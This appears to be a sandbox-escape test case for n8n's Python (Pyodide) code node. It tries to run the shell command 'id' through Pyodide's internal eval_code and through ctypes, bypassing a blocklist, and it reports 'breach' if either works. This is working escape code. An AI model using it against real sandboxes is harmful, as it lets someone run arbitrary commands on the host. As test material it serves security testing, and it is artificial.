# n8n: the interpreter's own evaluator runs what the blocklist would have stopped; commands through the C library.
# holds: nothing is reached
# browser: capability
# wasi: capability
import sys


def render(context):
    sys.modules.pop("_pyodide", None)
    from _pyodide._base import eval_code

    space = {}
    eval_code("import os\nstatus = os.system('id')\n", space)
    if space.get("status") == 0:
        return {"text": "breach: a command ran"}
    import ctypes

    return {"text": "breach: " + str(ctypes.CDLL(None).system(b"id"))}
